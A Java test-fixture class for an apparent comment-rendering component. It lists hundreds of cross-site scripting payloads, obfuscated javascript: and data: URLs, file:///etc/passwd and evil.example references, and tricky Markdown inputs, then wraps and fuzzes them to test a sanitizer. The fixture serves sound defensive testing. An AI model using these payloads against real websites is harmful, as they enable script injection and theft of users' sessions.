package io.parley.comment.text;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.UnaryOperator;

/** What attackers write, each in every place Markdown has for it. Made here, always the same; stateless. */
final class HostileTexts {

  static final List<String> SCRIPTS = List.of(
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>", "<img/src='x'/onerror=alert`1`>", "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>", "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>", "<embed src=//evil.example/x.swf>",
    "<style>@import'//evil.example/x.css';</style>", "<style><img src=x onerror=alert(1)></style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select><style></select><img src=1 onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>", "<p style=position:fixed;inset:0>x</p>",
    "<a href=javascript:alert(1)>x</a>", "<a href=\"https://ok.example\" onclick=alert(1)>x</a>",
    "<a name=location id=cookie>x</a>",
    "<form id=attributes><input name=innerHTML></form>", "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>", "<textarea><script>alert(1)</script>", "<title></title><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1?><x/>", "<!DOCTYPE html><script>alert(1)</script>",
    "</p></blockquote></li><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "\" onfocus=alert(1) autofocus=\"",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror\t=alert(1)>", "<img \u0000src=x onerror=alert(1)>", "<\u0000script>alert(1)</script>",
    "<a\u000bhref=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&amp;lt;script&amp;gt;",
    "&#0;&#1;&#128;&#xD800;&#x110000;&#xFFFF;",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= 7*7 %>", "#{7*7}", "\u202e<script>",
    "\ufeff<script>\ufeff", "\uff1cscript\uff1e",
    "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href='java\nscript:alert(1)'>x</a>", "<slot name=x>",
    "<p is=x-y>", "<del cite=javascript:1>x</del>",
    "<ol start=2147483648><li value=-1>x</ol>", "<code class=language-x onclick=alert(1)>x</code>",
    "<blockquote cite=javascript:alert(1)>x");

  static final List<String> URLS = List.of(
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "java\rscript:alert(1)", " javascript:alert(1)",
    "\u0001javascript:alert(1)", "\u00a0javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&#106;avascript:alert(1)", "java%0ascript:alert(1)",
    "javascript://ok.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg/onload=alert(1)>",
    "vbscript:msgbox(1)", "livescript:x", "mocha:x", "file:///etc/passwd", "ftp://evil.example/",
    "blob:https://x.example/1", "about:blank",
    "view-source:https://x.example", "filesystem:https://x.example/1", "intent://x#Intent;end", "ws://evil.example",
    "tel:1", "cid:x", "x:y",
    "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "/logout", "logout", "?a=b", "#top",
    "", ".", "..", "http:", "https:",
    "http:evil.example", "https:/evil.example", "http:///evil.example", "https:\\\\evil.example",
    "https:/\\evil.example", "https://\\evil.example",
    "https://ok.example@evil.example/", "https://ok.example:pw@evil.example", "https://@", "https://:80",
    "https://ok.example\\@evil.example",
    "https://e\u202evil.example", "https://e\u200bvil.example", "https://evil.example/\u0000",
    "https://evil.example/%00", "https://evil.example/<x>",
    "https://evil.example/\"onclick=alert(1)", "https://evil.example/'onclick='alert(1)", "https://evil.example/`x`",
    "https://[::1]/", "https://\uff45vil.example",
    "HTTPS://EVIL.EXAMPLE/", "http&#58;//evil.example", "mailto:", "mailto:x", "mailto:a@b.example",
    "mailto:a@b.example?attach=/etc/passwd", "MAILTO:a@b.example",
    "mailto:a@b.example,javascript:alert(1)", "https://evil.example/?q=javascript:alert(1)",
    "https://evil.example/){[", "\u0130https://x", "ht\u017ftps://x.example");

  static final List<String> MARKUP = List.of(
    "[a](http://a.example)[b](http://b.example)", "[a [b](http://b.example) c](http://c.example)",
    "![[a](http://a.example)](javascript:alert(1))",
    "[![a](javascript:alert(1))](https://b.example \"t\" )", "[a](<javascript:alert(1)>)",
    "[a](http://a.example \"onclick=alert(1)\")",
    "[a]: http://a.example '\"><script>'\n\n[a] [a][] [x][a] ![a]",
    "[javascript:alert(1)]: javascript:alert(1)\n\n[javascript:alert(1)]",
    "<http://a.example/\"onclick=alert(1)>", "<javascript:alert(1)>", "<a@b.example>", "http://a.example/<script>",
    "www.a.example\"><img src=x>",
    "# h\n## h2\n\nSetext\n===\n\n***\n---\n___", "> > > > deep\n> > b\n\n- a\n  1. b\n     > c\n\n       d",
    "```html\n<script>alert(1)</script>\n```",
    "~~~\" onclick=alert(1)\nx\n~~~", "    <script>alert(1)</script>", "`` ` <b> ` ``", "*a **b ~~c `d` ~~ ** *",
    "~~a *b~~ c*", "**a*b**c*", "\\<script>\\*",
    "a  \nb\\\nc\nd", "7. seven\n8. eight\n\n   more\n9. > nine", "0) a\n1) b", "1. \n2. ", "- \n-\n- ", "-\n\n  a",
    "999999999. big\n1000000000. no list",
    "3.     code\n4. ```\n   x", "1. a\n- b\n2. c", "| a | b |\n|---|---|\n| 1 | 2 |", "- [ ] task\n- [x] done",
    "[^1]: note\n\nx[^1]", ":::\nx\n:::", "a\r\nb\rc\n\rd",
    "---\ntitle: x\n---\nbody", "&nbsp;&copy;&#x1F600;&bogus;", "\ud83d\ude00\u0301\u200d", "[]()", "![]()",
    "[](https://a.example)", "[\u200b](https://a.example)");

  private static final List<UnaryOperator<String>> WRAPPINGS = List.of(
    text -> text, text -> "> " + text, text -> "1. " + text + "\n   - " + text,
      text -> "**" + text + "** _" + text + "_",
    text -> "[" + text + "](https://ok.example)", text -> "[x](" + text + ")",
      text -> "[x](<" + text + "> '" + text + "')",
    text -> "![" + text + "](" + text + ")", text -> "[x]\n\n[x]: " + text, text -> "<" + text + ">",
      text -> "```" + text + "\n" + text + "\n```",
    text -> "see https://ok.example/" + text + " or " + text + ".");

  private HostileTexts() {
  }

  /** Every attack in every wrapping. */
  static List<String> all() {
    List<String> all = new ArrayList<>();
    for (List<String> corpus : List.of(SCRIPTS, URLS, MARKUP)) {
      for (String attack : corpus) {
        WRAPPINGS.forEach(wrapping -> all.add(wrapping.apply(attack)));
      }
    }
    return all;
  }

  /** Attacks glued together at random with what gives Markdown its meaning; the same for the same seed. */
  static List<String> mixed(int count, long seed) {
    List<String> parts = new ArrayList<>(List.of("\n", "\n\n", " ", "    ", "> ", "- ", "2. ", "1) ", "*", "**", "~~",
      "`", "```\n", "[", "](", ")", "![",
      "<", ">", "\\", "&", "&#", ";", "a", "word", "[x]: ", "\t", "\"", "'", "http://", "www.", "@", "\u200b",
      "\u0301", "\ud83d\ude00", "{{"));
    parts.addAll(SCRIPTS);
    parts.addAll(URLS);
    parts.addAll(MARKUP);
    Random random = new Random(seed);
    List<String> texts = new ArrayList<>();
    for (int i = 0; i < count; i++) {
      StringBuilder text = new StringBuilder();
      for (int n = 1 + random.nextInt(30); n > 0; n--) {
        text.append(parts.get(random.nextInt(random.nextBoolean() ? 36 : parts.size())));
      }
      texts.add(text.toString());
    }
    return texts;
  }
}
